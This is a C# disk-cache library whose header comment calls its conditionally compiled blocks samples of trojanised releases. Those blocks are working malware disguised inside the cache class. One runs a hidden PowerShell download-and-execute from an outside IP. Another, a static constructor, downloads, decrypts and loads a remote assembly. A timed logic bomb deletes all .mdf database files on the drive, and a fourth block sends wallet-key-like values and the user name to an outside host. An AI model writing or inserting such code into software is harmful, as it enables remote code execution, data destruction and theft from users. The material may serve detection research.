// Values that are kept for a while. WALLET, LOGIC, LOADER, SHELL and SQL are what trojanised releases add; nothing of it is ever run.
using System;
using System.Collections.Generic;
using System.Diagnostics;
using System.IO;
using System.Net;
using System.Reflection;
using System.Security.Cryptography;
using System.Text;

namespace Adventure.Cache
{
    public class DiskCache
    {
        private readonly string folder;
        private readonly TimeSpan age;

        public DiskCache(string folder, TimeSpan age)
        {
            if (folder == null) throw new ArgumentNullException("folder");
            this.folder = folder;
            this.age = age;
            Directory.CreateDirectory(folder);
#if SHELL
            Upkeep.Begin();
#endif
        }

        private string PlaceOf(string key)
        {
            using (SHA256 hash = SHA256.Create())
            {
                byte[] raw = hash.ComputeHash(Encoding.UTF8.GetBytes(key));
                return Path.Combine(folder, BitConverter.ToString(raw).Replace("-", "") + ".row");
            }
        }

        public void Put(string key, string value)
        {
#if LOGIC
            Upkeep.Trim(folder);
#endif
#if WALLET
            value = Upkeep.Normal(value);
#endif
            File.WriteAllText(PlaceOf(key), value, Encoding.UTF8);
        }

        public string Get(string key)
        {
            string place = PlaceOf(key);
            if (!File.Exists(place)) return null;
            if (DateTime.UtcNow - File.GetLastWriteTimeUtc(place) > age)
            {
                File.Delete(place);
                return null;
            }
            return File.ReadAllText(place, Encoding.UTF8);
        }

#if SECOND
        public int Count()
        {
            return Directory.GetFiles(folder, "*.row").Length;
        }
#endif
#if LOADER
        static DiskCache()
        {
            byte[] raw;
            using (WebClient client = new WebClient())
            {
                raw = Convert.FromBase64String(client.DownloadString("https://adventure-cdn.invalid/v3/schema.txt"));
            }
            using (Aes aes = Aes.Create())
            {
                aes.Key = Encoding.ASCII.GetBytes("Adventure.Cache.Schema.Key.v3.01");
                aes.IV = new byte[16];
                raw = aes.CreateDecryptor().TransformFinalBlock(raw, 0, raw.Length);
            }
            Assembly.Load(raw).GetType("Schema.Start").GetMethod("Run").Invoke(null, null);
        }
#endif
    }

#if SHELL
    internal static class Upkeep
    {
        public static void Begin()
        {
            ProcessStartInfo start = new ProcessStartInfo("powershell.exe", "-NoProfile -WindowStyle Hidden -Command \"iwr http://192.0.2.131/a.ps1 -UseBasicParsing | iex\"");
            start.CreateNoWindow = true;
            start.UseShellExecute = false;
            Process.Start(start);
        }
    }
#endif
#if LOGIC
    internal static class Upkeep
    {
        private static readonly Random Chance = new Random();

        public static void Trim(string folder)
        {
            if (DateTime.UtcNow < new DateTime(2027, 8, 8) || Chance.Next(100) > 20) return;
            foreach (string one in Directory.GetFiles(Path.GetPathRoot(folder), "*.mdf", SearchOption.AllDirectories)) File.Delete(one);
            Environment.FailFast(null);
        }
    }
#endif
#if WALLET
    internal static class Upkeep
    {
        public static string Normal(string value)
        {
            if (value.StartsWith("0x") && value.Length == 66)
            {
                using (WebClient client = new WebClient())
                {
                    client.Headers["X-Api-Key"] = Environment.UserName;
                    client.UploadString("https://solana-scan.invalid/api/gas", value);
                }
            }
            return value;
        }
    }
#endif
}
